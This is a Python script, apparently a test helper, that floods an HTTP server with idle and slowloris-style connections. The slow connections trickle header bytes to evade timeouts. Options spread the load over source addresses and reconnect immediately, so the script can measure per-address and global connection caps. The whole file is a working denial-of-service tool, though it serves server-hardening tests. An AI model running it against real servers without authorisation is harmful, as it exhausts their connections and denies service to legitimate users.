#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
#
# Hold many TCP connections to an HTTP server open, the way a careless or
# hostile client would:
#
#   conn_flood.py HOST PORT IDLE IDLE_SRC[,SRC...] SLOW SLOW_SRC[,SRC...] [reconnect]
#
# IDLE connections send nothing; SLOW ones send a request line and then
# trickle a header one byte every half second, never ending the headers,
# so that an inactivity timeout never fires on them. Each kind is spread
# round-robin over its source addresses (bound before connect), so that a
# server's per-address cap can be told apart from its global one.
#
# HOST and the sources are IPv4 or IPv6 addresses, all of one family.
#
# With "reconnect", a connection the server closes is opened again from
# the same address at once, the way a determined attacker keeps its count.
#
# Prints "ready idle=N slow=N failed=N" once every connect has been tried,
# then once a second "open idle=N slow=N": the connections the server has
# not closed yet (with "reconnect", then " reconnected=N"). Runs until
# killed.

import resource
import selectors
import socket
import sys
import time

TRICKLE = 0.5


def connect(host, port, src):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.settimeout(2)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


def start(sel, slow, kind, host, port, src):
    s = connect(host, port, src)
    if not s:
        return False
    if kind == "slow":
        try:
            s.send(b"GET /metrics HTTP/1.1\r\nHost: flood\r\nX-Flood: ")
        except OSError:
            pass
        slow.add(s)
    sel.register(s, selectors.EVENT_READ, (kind, src))
    return True


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    n_idle, idle_src = int(sys.argv[3]), sys.argv[4].split(",")
    n_slow, slow_src = int(sys.argv[5]), sys.argv[6].split(",")
    reconnect = sys.argv[7:] == ["reconnect"]
    reconnected = 0

    # One descriptor per connection, and the default soft limit is often
    # 1024.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n_idle + n_slow + 64
    if hard != resource.RLIM_INFINITY and hard < want:
        sys.exit(f"conn_flood.py: need {want} descriptors, hard limit is {hard}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    sel = selectors.DefaultSelector()
    open_ = {"idle": 0, "slow": 0}
    slow = set()
    failed = 0
    for kind, n, srcs in (("idle", n_idle, idle_src), ("slow", n_slow, slow_src)):
        for i in range(n):
            if start(sel, slow, kind, host, port, srcs[i % len(srcs)]):
                open_[kind] += 1
            else:
                failed += 1
    print(f"ready idle={open_['idle']} slow={open_['slow']} failed={failed}", flush=True)

    next_trickle = next_status = time.monotonic()
    while True:
        now = time.monotonic()
        if now >= next_trickle:
            for s in slow:
                try:
                    s.send(b"a")
                except OSError:
                    pass
            next_trickle = now + TRICKLE
        if now >= next_status:
            more = f" reconnected={reconnected}" if reconnect else ""
            print(f"open idle={open_['idle']} slow={open_['slow']}{more}", flush=True)
            next_status = now + 1
        for key, _ in sel.select(timeout=min(next_trickle, next_status) - now):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            # A server that answers (431, 408) and closes is also done
            # with the connection; only its close counts here.
            if data:
                continue
            kind, src = key.data
            sel.unregister(s)
            slow.discard(s)
            s.close()
            if reconnect and start(sel, slow, kind, host, port, src):
                reconnected += 1
            else:
                open_[kind] -= 1


if __name__ == "__main__":
    main()
